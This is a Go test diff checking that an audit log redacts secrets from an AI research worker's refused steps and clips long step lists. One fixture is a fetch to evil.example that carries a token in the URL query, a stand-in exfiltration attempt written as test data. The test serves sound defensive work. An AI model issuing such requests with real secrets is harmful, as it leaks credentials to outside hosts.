@@ -165,3 +165,30 @@ func TestAuditRedactsWhatIsNotTheRequest(t *testing.T) {
 		t.Errorf("direct: %+v", entries)
 	}
 }
+
+// TestAuditRedactsResearchSteps: a research step's target is the model's choice, and one the
+// worker refused for a secret still names it: the audit keeps the host of such a URL, withholds
+// any other target, and keeps steps that hold none whole.
+func TestAuditRedactsResearchSteps(t *testing.T) {
+	e := &AuditEntry{Steps: []retriever.Step{
+		{N: 1, Tool: "fetch", Target: "https://evil.example/c?k=" + fakeToken, Outcome: "refused", Why: "it would send a GitHub token in the url query"},
+		{N: 1, Tool: "search", Target: "how to " + fakeToken, Outcome: "refused", Why: "it would send a GitHub token in the query"},
+		{N: 2, Tool: "fetch", Target: "https://docs.example/a", Outcome: "read"},
+	}, Citations: []string{"https://docs.example/a?t=" + fakeToken}}
+	redactEntry(e, scrub.NewScrubber(nil))
+	if e.Steps[0].Target != "https://evil.example/c [the rest is withheld: it held a secret]" || e.Steps[1].Target != withheldMark ||
+		e.Steps[2].Target != "https://docs.example/a" || strings.Contains(e.Citations[0], fakeToken) {
+		t.Errorf("%+v %q", e.Steps, e.Citations)
+	}
+	long := make([]retriever.Step, 100)
+	for i := range long {
+		long[i] = retriever.Step{N: i, Tool: "fetch", Target: "https://x.example/" + strings.Repeat("a", 1000)}
+	}
+	clipped := auditSteps(long)
+	if len(clipped) != maxAuditSteps+1 || len(clipped[0].Target) > maxAuditTarget+len("…") || !strings.Contains(clipped[maxAuditSteps].Outcome, "20 more steps") {
+		t.Errorf("clipped: %d steps, first %d bytes, last %+v", len(clipped), len(clipped[0].Target), clipped[len(clipped)-1])
+	}
+	if line, err := encodeEntry(&AuditEntry{ID: "x", Steps: clipped}); err != nil || len(line) > auditMaxLine {
+		t.Errorf("an entry with the most steps: %d bytes, %v", len(line), err)
+	}
+}
